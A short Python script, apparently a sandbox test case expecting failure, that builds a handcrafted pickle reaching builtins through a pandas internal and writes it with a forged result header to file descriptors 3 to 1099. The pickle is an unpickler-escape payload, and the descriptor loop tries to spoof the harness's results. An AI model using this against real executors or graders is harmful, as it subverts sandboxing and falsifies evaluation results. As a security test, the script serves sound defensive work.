# status: unserialisable or killed or wrong
import json
import os


def text(word):
    return b'X' + len(word).to_bytes(4, 'little') + word.encode()


space = text('pandas.core.indexes.base') + text('_new_Index.__builtins__') + b'\x93'
parcel = b'\x80\x04' + space + text('all') + b'cbuiltins\nlist\ns0K\x07.'
header = json.dumps({'seconds': 0.0, 'stdout': '', 'value_type': 'int', 'sizes': [len(parcel)]}).encode()
result = -1
for descriptor in range(3, 1100):
    try:
        os.write(descriptor, len(header).to_bytes(4, 'big') + header + parcel)
    except OSError:
        continue
